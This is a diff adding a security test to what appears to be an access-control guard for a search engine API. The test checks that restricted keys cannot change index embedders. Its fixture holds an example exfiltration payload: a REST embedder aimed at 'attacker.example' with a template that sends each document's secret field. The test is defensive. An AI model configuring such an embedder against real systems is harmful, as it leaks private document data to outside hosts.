@@ -369,3 +369,20 @@ def test_ranking_details_of_a_sort_on_hidden_attributes_are_turned_off(guard, ba
     target = send(guard, backend, key["key"], "GET",
                   "/indexes/movies/search?sort=title:asc&showRankingScoreDetails=true")[2][1]
     assert query_of(target)["showRankingScoreDetails"] == "true"
+
+
+def test_embedders_of_a_covered_index_cannot_be_changed(guard, backend):
+    # a REST embedder's documentTemplate would send every document, whole, to its URL
+    key = new_key(guard, {"forcedParameters": FORCED}, actions=("search", "settings.update"))
+    embedders = {"leak": {"source": "rest", "url": "http://attacker.example/",
+                          "documentTemplate": "{{doc.secret}}", "request": {}, "response": {}}}
+    for target, body in (("/indexes/movies/settings", {"embedders": embedders}),
+                         ("/indexes/movies-fr/settings/embedders", embedders)):
+        status, error, seen = send(guard, backend, key["key"], "PATCH", target, body)
+        assert status == 403 and error["code"] == "forbidden_by_restriction", target
+        assert seen is None or seen[0] == "GET", seen  # only the index's existence was asked
+    kept = {"embedders": None, "distinctAttribute": "id"}
+    for target, body in (("/indexes/movies/settings", kept),
+                         ("/indexes/books/settings/embedders", embedders)):
+        status, _, seen = send(guard, backend, key["key"], "PATCH", target, body)
+        assert status == 200 and seen == ("PATCH", target, body)
